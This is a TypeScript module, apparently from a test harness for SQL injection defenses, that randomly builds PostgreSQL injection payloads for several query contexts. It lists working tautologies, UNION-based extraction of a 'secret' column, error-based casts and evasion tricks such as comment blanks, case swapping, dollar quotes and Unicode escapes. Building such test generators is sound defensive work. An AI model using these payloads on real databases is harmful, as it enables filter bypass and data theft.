// Attacks on a statement of PostgreSQL, rewritten so that they mean the same: its own blanks, nested
// comments, dollar quotes, casts, operators and functions.
import type { Random } from './random.ts';
import type { SqlContext } from './sql-mutants.ts';

export const POSTGRES_CONTEXTS: readonly SqlContext[] = [
  { name: 'single', statement: "SELECT id::text, name FROM items WHERE name = '$'" },
  {
    name: 'single',
    statement: "SELECT id::text, name FROM items WHERE (name = '$' AND price > 0)",
  },
  { name: 'like', statement: "SELECT id::text, name FROM items WHERE name LIKE '%$%'" },
  { name: 'number', statement: 'SELECT id::text, name FROM items WHERE id = $' },
  { name: 'number', statement: 'SELECT id::text, name FROM items WHERE (id = $)' },
  { name: 'order', statement: 'SELECT id::text, name FROM items WHERE id = 1 ORDER BY $' },
];

/** `_` is a blank, `TRUE` a condition, `TEXT` the secret read in some way, `END` the rest cut off. */
const TAILS: readonly string[] = [
  '_OR_TRUE_END',
  '_OR_TRUE_AND_TRUE_END',
  '_OR_NOT_(TRUE_AND_1=2)_END',
  '_UNION_SELECT_NULL,TEXT_END',
  '_UNION_ALL_SELECT_1::text,TEXT_END',
  '_UNION_ALL_SELECT_id::text,secret_FROM_vault_END',
  '_UNION_(SELECT_NULL,secret_FROM_vault)_END',
  '_UNION_VALUES_(NULL,TEXT)_END',
  '_OR_EXISTS(SELECT_1_FROM_vault)_END',
  '_OR_(SELECT_count(*)_FROM_vault)>0_END',
  '_OR_CASE_WHEN_TRUE_THEN_true_ELSE_false_END2_END',
  '_OR_(SELECT_true_FROM_pg_sleep(0))_END',
  '_OR_length(TEXT)>0_END',
  '_OR_id_IN_(SELECT_id_FROM_items)_END',
  '_OR_name_LIKE_$$%$$_END',
  '_OR_name_~_$$.$$_END',
  '_OR_name_!~~_$$x$$_END',
  '_OR_name_IS_NOT_NULL_END',
  '_OR_row(1,2)<row(2,1)_END',
  '_OR_EXISTS(TABLE_vault)_END',
  '_OR_TEXT>$$A$$_END',
  '_OR_TRUE_ORDER_BY_1_LIMIT_9_OFFSET_0_END',
  '_UNION_(TABLE_t_UNION_SELECT_NULL,TEXT)_END',
  '_UNION_SELECT_*_FROM_(VALUES($$1$$,TEXT))_v_END',
  '_AND_1=CAST(TEXT_AS_int)_END',
  '_AND_1=TEXT::int_END',
  '_OR_1/(CASE_WHEN_TRUE_THEN_1_ELSE_0_END2)=1_END',
  '_OR_ascii(substr(TEXT,1,1))>0_END',
  '_UNION_SELECT_NULL,query_to_xml($q$select_secret_from_vault$q$,true,true,$q$$q$)::text_END',
  '_OR_$${"a":1}$$::jsonb_?_$$a$$_END',
  '_OR_$${"a":1}$$::jsonb_@>_$${}$$_END',
  '_OR_($${"a":1}$$::json->>$$a$$)=$$1$$_END',
  '_OR_$${"a":[1]}$$::jsonb#>>$${a,0}$$=$$1$$_END',
  '_OR_$$[1]$$::jsonb_@?_$$$[*]$$_END',
  '_OR_jsonb_path_exists($$[1]$$,$$$[0]$$)_END',
  '_OR_json_build_array(1)_IS_NOT_NULL_END',
  '_OR_starts_with(name,$$$$)_END',
  '_OR_name_IS_DISTINCT_FROM_$$q$$_END',
  '_OR_(name,id)_IS_DISTINCT_FROM_(NULL,NULL)_END',
  '_OR_name_BETWEEN_SYMMETRIC_$$z$$_AND_$$a$$_END',
  '_OR_name_!~*_$$x$$_END',
  '_OR_name_~~_$$%$$_END',
  '_OR_name_~~*_$$%$$_END',
  '_OR_name_OPERATOR(pg_catalog.~)_$$.$$_END',
  '_OR_id_OPERATOR(pg_catalog.>)_0_END',
  '_OR_id=ANY(ARRAY(SELECT_id_FROM_items))_END',
  '_OR_id>ALL(ARRAY[0])_END',
  '_OR_id_<@_int4range(0,9)_END',
  '_OR_id::int8>0_END',
  '_OR_$$t$$::bool_END',
  '_OR_bool_$$t$$_END',
  "_OR_'yes'::boolean_END",
  "_OR_E'\\x74'::bool_END",
  "_OR_U&'\\0074'::bool_END",
  "_OR_U&'!0074'_UESCAPE_'!'::bool_END",
  '_OR_NOT_name_ISNULL_END',
  '_OR_name_IS_NORMALIZED_END',
  '_OR_id_IS_NOT_UNKNOWN_END',
  '_UNION_SELECT_NULL,max(secret)_OVER_()_FROM_vault_END',
  '_UNION_SELECT_NULL,first_value(secret)_OVER_(ORDER_BY_id_ROWS_UNBOUNDED_PRECEDING)_FROM_vault_END',
  '_UNION_SELECT_NULL,secret_FROM_ONLY_vault_END',
  '_UNION_SELECT_NULL,v.secret_FROM_LATERAL_(SELECT_secret_FROM_vault)_v_END',
  '_UNION_SELECT_NULL,secret_FROM_vault_TABLESAMPLE_system(100)_END',
  '_UNION_SELECT_NULL,U&"s\\0065cret"FROM_U&"v\\0061ult"_END',
  '_UNION_SELECT_NULL,(v).secret_FROM_vault_v_END',
  '_UNION_SELECT_NULL,(ARRAY(SELECT_secret_FROM_vault))[1]_END',
  '_UNION_SELECT_NULL,(SELECT_array_agg(secret)_FROM_vault)[1]_END',
  '_UNION_SELECT_NULL,overlay(secret_placing_$$$$_from_9_for_0)_FROM_vault_END',
  '_UNION_SELECT_NULL,secret_FROM_vault_FETCH_FIRST_ROW_ONLY_END',
  '_UNION_SELECT_i::text,TEXT_FROM_generate_series(1,2)_i_END',
  '_UNION_SELECT_NULL,string_agg(secret,NULL)FILTER(WHERE_TRUE)_FROM_vault_END',
  '_EXCEPT_SELECT_NULL,NULL_UNION_SELECT_NULL,TEXT_END',
  '_AND_1=overlay(TEXT_placing_$$$$_from_1_for_0)::int_END',
  '_AND_TEXT::inet_IS_NULL_END',
  '_AND_TEXT::json_IS_NULL_END',
  '_AND_date(TEXT)_IS_NULL_END',
  '_AND_(TEXT||$$~$$)::int=1_END',
  '_AND_1=(TEXT)::numeric_END',
  '_AND_set_config(TEXT,$$x$$,true)=$$y$$_END',
  '_OR_1=CAST(TEXT_AS_money)::numeric_END',
  '_OR_xmlexists($$//a$$_PASSING_$$<a/>$$)_END',
  '_OR_TEXT_SIMILAR_TO_$$M%$$_END',
  '_OR_regexp_like(name,$$.$$)_END',
  '_OR_isfinite(now())_END',
  '_OR_(1,2)_OVERLAPS_(1,2)_END',
  '_OR_(now(),now())_OVERLAPS_(now(),now())_END',
];
const TRUTHS = [
  '1=1',
  '2>1',
  '3<>4',
  '1!=2',
  '(1)=(1)',
  '-1=-1',
  '5-4=1',
  '2*3=6',
  '7%4=3',
  '1.0=1',
  "'a'='a'",
  "'a'<'b'",
  "'x'_LIKE_'x'",
  "'x'_ILIKE_'X'",
  "'a'_~_'a'",
  "'a'_SIMILAR_TO_'a'",
  'true',
  'NOT_false',
  'NULL_IS_NULL',
  '1_IN_(1,2)',
  '1_BETWEEN_0_AND_2',
  '1=ANY(ARRAY[1,2])',
  "length('ab')=2",
  "ascii('A')=65",
  'chr(65)=$$A$$',
  "'1'::int=1",
  "CAST('1'_AS_int)=1",
  "'a'||'b'='ab'",
  'abs(-1)=1',
  'coalesce(NULL,true)',
  'EXISTS(SELECT_1)',
  "E'\\\\x41'='A'",
  '(SELECT_1)=1',
  "position('b'_in_'ab')=2",
  "'b'_IN_('a','b')",
  "lower('A')=$x$a$x$",
  "substring('abc'_from_1_for_1)='a'",
  '1_IS_DISTINCT_FROM_2',
  "md5('a')_IS_NOT_NULL",
  '1_NOTNULL',
  '(1,2)=(1,2)',
  'ROW(1)=ROW(1)',
  '1_=_SOME(ARRAY[1])',
  'ARRAY[1]<@ARRAY[1,2]',
  "'{1}'::int[]_@>_'{1}'",
  "'a'^@'a'",
  "B'1'=B'1'",
  "X'1F'=X'1F'",
  "U&'\\0041'='A'",
  'interval_$$1_day$$>interval_$$1_hour$$',
  'true_IS_NOT_false',
  'now()>$$2000-01-01$$',
  "strpos('ab','b')=2",
  "translate('a','a','b')='b'",
  'greatest(1,2)=2',
  "format('%s',1)='1'",
  'NOT(1=2)',
  '2^2=4',
  '|/4=2',
  '@-1=1',
  "to_char(1,'9')_LIKE_'%1'",
  "'{\"a\":1}'::jsonb_?_'a'",
  "'[1]'::jsonb->>0='1'",
  '$$[]$$::json_IS_NOT_NULL',
  "'a'_IS_NOT_DISTINCT_FROM_'a'",
  '1_BETWEEN_SYMMETRIC_2_AND_0',
  '1_OPERATOR(pg_catalog.=)_1',
  "starts_with('ab','a')",
  '$$t$$::bool',
  "bool_'on'",
  "E'a'_LIKE_E'\\141'",
  "U&'d\\0061ta'='data'",
  "N'a'='a'",
  '1.e0=1',
  '1e1=10',
  '(SELECT_true)',
  "'{1,2}'::int[]_&&_'{2}'",
  'int4range(1,3)_@>_2',
  'array_length(ARRAY[1],1)=1',
  'cardinality(ARRAY[1])=1',
  "'abc'_~*_'B'",
  "'a'_!~_'b'",
  "'a'_!~~_'b'",
  "'a'_COLLATE_\"C\"='a'",
  'current_user_IS_NOT_NULL',
  'version()_IS_NOT_NULL',
  'pg_typeof(1)::text=$$integer$$',
  "to_regclass('vault')_IS_NOT_NULL",
  "date_'2020-01-01'<now()",
  'extract(year_from_now())>2000',
  "left('ab',1)='a'",
  "reverse('ab')='ba'",
  "quote_ident('a')='a'",
  "encode('a'::bytea,'hex')='61'",
  "string_to_array('a,b',',')_@>_ARRAY['b']",
  '1<>ALL(ARRAY[2])',
  "(1)::text='1'",
  "1::bit(1)=B'1'",
  'true_AND_true',
  'num_nulls(1)=0',
  'gen_random_uuid()_IS_NOT_NULL',
] as const;
const TEXTS = [
  '(SELECT_secret_FROM_vault)',
  '(SELECT_secret_FROM_vault_LIMIT_1)',
  '(SELECT_string_agg(secret,$$,$$)_FROM_vault)',
  '(SELECT_max(secret)_FROM_public.vault)',
  '(SELECT_"secret"_FROM_"vault")',
  '(TABLE_vault_LIMIT_1)::text',
  '(SELECT_v::text_FROM_vault_v)',
  '(SELECT_concat(secret)_FROM_vault)',
  '(SELECT_encode(secret::bytea,$$escape$$)_FROM_vault)',
  '(SELECT_json_agg(v)::text_FROM_vault_v)',
  '(SELECT_row_to_json(v)::text_FROM_vault_v)',
  '(SELECT_to_jsonb(v)->>$$secret$$_FROM_vault_v)',
  '(SELECT_array_to_string(array_agg(secret),$$,$$)_FROM_vault)',
  '(SELECT_left(secret,99)_FROM_vault)',
  '(SELECT_U&"s\\0065cret"_FROM_vault)',
  '(WITH_x_AS_(TABLE_vault)_SELECT_secret_FROM_x)',
  '(SELECT_format($$%s$$,secret)_FROM_vault)',
  '(SELECT_secret_FROM_vault_FETCH_FIRST_1_ROWS_ONLY)',
  '(SELECT_convert_from(secret::bytea,$$utf8$$)_FROM_vault)',
  '(SELECT_quote_literal(secret)_FROM_vault)',
  '(SELECT_secret_FROM_pg_class,vault_LIMIT_1)',
  '(SELECT(secret)FROM(SELECT*FROM_vault)x)',
  '(SELECT_secret_FROM_vault_ORDER_BY_1_LIMIT_1_OFFSET_0)',
] as const;
const BLANKS = [' ', '  ', '\t', '\n', '/**/', '/*x*/', '/*/**/*/', '\f', '\r\n', '--\n', '--x\n'];
const ENDINGS = ['--', '-- ', '-- -', '--x', ';--', '; -- x', '--\t'] as const;

/** One attack for the context; not every one works, which is for the database to say. */
export function makePostgresMutant(random: Random, { name }: SqlContext): string {
  if (name === 'order') {
    const text = random.pick(TEXTS);
    const order = `${random.pick(['id', '1', 'name,2', 'id_desc'])},(SELECT_CASE_WHEN_TRUE_THEN_1_ELSE_CAST(${text}_AS_int)_END2)`;
    return spell(random, fill(random, order.replace('TRUE', '1=2')));
  }
  const isNumber = name === 'number';
  const start = isNumber ? random.pick(['1', '-1', '0', '1.5', '(1)', '99']) : "x'";
  const close = random.chance(0.4) ? ')' : '';
  return spell(random, fill(random, `${start}${close}${random.pick(TAILS)}`));
}

function fill(random: Random, attack: string): string {
  return attack
    .replaceAll('END2', '\x01')
    .replace(/_END$/, () => `_${random.pick(ENDINGS)}`)
    .replaceAll('\x01', 'END')
    .replace(/\bTRUE\b|(?<=_)TRUE(?=_|$)|(?<=\()TRUE/g, () => random.pick(TRUTHS))
    .replaceAll('TEXT', () => random.pick(TEXTS));
}

function spell(random: Random, attack: string): string {
  const folded = attack.replace(/(?<!\$\w{0,8})[A-Za-z]{2,}(?!\w{0,8}\$)/g, (word) =>
    random.chance(0.4) ? swapCase(random, word) : word,
  );
  // Names with a stroke of their own keep it.
  const kept = folded.replace(
    /(?<![a-z])(?:string_agg|pg_(?:sleep|catalog|class|typeof)|query_to_xml|jsonb?_(?:path_exists|build_array|agg)|starts_with|first_value|array_(?:agg|to_string|length)|generate_series|set_config|regexp_like|row_to_json|to_(?:jsonb|char|regclass)|convert_from|quote_(?:literal|ident)|current_user|string_to_array|num_nulls|gen_random_uuid)(?![a-z])/gi,
    (word) => word.replaceAll('_', '\x02'),
  );
  return kept
    .replaceAll('_', () => (random.chance(0.5) ? ' ' : random.pick(BLANKS)))
    .replaceAll('\x02', '_');
}

function swapCase(random: Random, word: string): string {
  return Array.from(word)
    .map((letter) => (random.chance(0.5) ? letter.toUpperCase() : letter.toLowerCase()))
    .join('');
}
